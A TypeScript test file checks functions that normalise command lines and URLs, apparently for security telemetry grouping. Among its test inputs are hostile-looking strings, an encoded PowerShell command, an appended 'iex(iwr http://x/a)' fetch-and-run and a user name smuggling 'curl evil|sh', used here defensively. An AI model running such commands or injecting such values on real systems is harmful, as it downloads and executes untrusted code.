import { describe, expect, it } from 'vitest';
import { foldText, urlTemplate } from './fold.ts';

describe('foldText', () => {
  it('folds numbers, GUIDs, long hex, temp and profile directories and the user name', () => {
    expect(
      foldText(
        'C:\\Users\\alice\\AppData\\Local\\Temp\\tmp8F3A\\setup.exe /install {6F9619FF-8B86-D011-B42D-00C04FC964FF} /log 20240101 0xdeadbeef01',
        ['CORP\\alice'],
      ),
    ).toBe('c:\\users\\<user>\\appdata\\local\\temp\\<tmp>\\setup.exe /install <guid> /log <n> <hex>');
    expect(foldText('/usr/bin/python3 /tmp/abc123/run.py --user bob --port 8080', ['bob'])).toBe(
      '/usr/bin/python<n> /tmp/<tmp>/run.py --user <user> --port <n>',
    );
    expect(foldText('/home/carol/.local/bin/tool -v')).toBe('/home/<user>/.local/bin/tool -v');
  });

  it('keeps words, switches and executables: different activities never fold alike', () => {
    const benign = foldText('powershell.exe -File C:\\Scripts\\backup.ps1 -Days 7');
    expect(foldText('powershell.exe -enc SQBFAFgA -Days 7')).not.toBe(benign);
    expect(foldText('powershell.exe -File C:\\Scripts\\backup.ps1 -Days 7 ; iex(iwr http://x/a)')).not.toBe(
      benign,
    );
    expect(foldText('cmd /c whoami')).not.toBe(foldText('cmd /c hostname'));
  });

  it('folds a temp or home directory only when the path goes on below it: file names stay', () => {
    expect(foldText('bash /tmp/backup.sh')).not.toBe(foldText('bash /tmp/evil.sh'));
    expect(foldText('bash /tmp/job1/backup.sh')).toBe(foldText('bash /tmp/job2/backup.sh'));
    expect(foldText('bash /tmp/job1/backup.sh')).not.toBe(foldText('bash /tmp/job1/evil.sh'));
    expect(foldText('cscript C:\\Windows\\Temp\\inv.vbs')).not.toBe(
      foldText('cscript C:\\Windows\\Temp\\drop.vbs'),
    );
    expect(foldText('/home/bob')).toBe('/home/bob');
    expect(foldText('/var/tmp/a1/x /var/tmp/b2/x')).toBe('/var/tmp/<tmp>/x /var/tmp/<tmp>/x');
  });

  it('keeps IPv4 addresses whole: where the activity goes is not a counter', () => {
    expect(foldText('ping -n 4 10.0.0.5')).toBe('ping -n <n> 10.0.0.5');
    expect(foldText('scp out.tgz 10.0.0.5:/backup')).not.toBe(foldText('scp out.tgz 203.0.113.9:/backup'));
    expect(foldText('curl http://10.0.0.5:8080/a')).toBe('curl http://10.0.0.5:<n>/a');
    // Not an address: a version with four dots folds like any number.
    expect(foldText('tool-1.2.3.4.5')).toBe('tool-<n>.<n>.<n>.<n>.<n>');
  });

  it('folds only whole name-shaped account names, never text posing as a user name', () => {
    expect(foldText('run bobby bob --for=bob', ['bob'])).toBe('run bobby <user> --for=<user>');
    // A "user name" holding shell syntax or spaces is not a name: nothing of it folds.
    const hostileUser = 'bob; curl evil|sh';
    expect(foldText(`backup.exe --owner ${hostileUser}`, [hostileUser])).toBe(
      'backup.exe --owner bob; curl evil|sh',
    );
    expect(foldText('ls id', ['id', 'ls'])).toBe('ls id');
    expect(foldText('net use alice', ['CORP\\Alice', 'carol@corp.example'])).toBe('net use <user>');
  });

  it('is linear on hostile input (long hex runs, long paths, no separators)', () => {
    const inputs = [
      `${'a1'.repeat(32_000)}g`,
      `\\temp\\${'x'.repeat(60_000)}`,
      `${'/tmp/'.repeat(12_000)}`,
      `${'{6F9619FF-8B86-D011-B42D-'.repeat(2_500)}`,
      `${'9'.repeat(65_000)}z`,
    ];
    const work = (x: string) => {
      const t = performance.now();
      foldText(x, ['alice']);
      urlTemplate(`http://h/${x}?${x}=1`);
      return performance.now() - t;
    };
    // The same size of ordinary text, measured in the same run: a ratio, not a wall-clock budget.
    const plain = 'copy report 12 to share '.repeat(2_700);
    work(plain);
    const base = Math.max(...[1, 2, 3].map(() => work(plain)));
    for (const s of inputs) {
      // A quadratic pattern costs thousands of times the linear pass on 64 KB; allow noise, not that.
      expect(work(s) / Math.max(base, 0.5)).toBeLessThan(50);
    }
  });
});

describe('urlTemplate', () => {
  it('keeps host and words, folds ids and drops query values', () => {
    expect(urlTemplate('https://Shop.Example.com/item/12345/view?b=2&a=1#x')).toBe(
      'https://shop.example.com/item/<id>/view?a&b',
    );
    expect(urlTemplate('/api/v2/users/6f9619ff-8b86-d011-b42d-00c04fc964ff/orders')).toBe(
      '/api/v<n>/users/<id>/orders',
    );
    expect(urlTemplate('/wp-login.php')).not.toBe(urlTemplate('/favicon.ico'));
  });
});
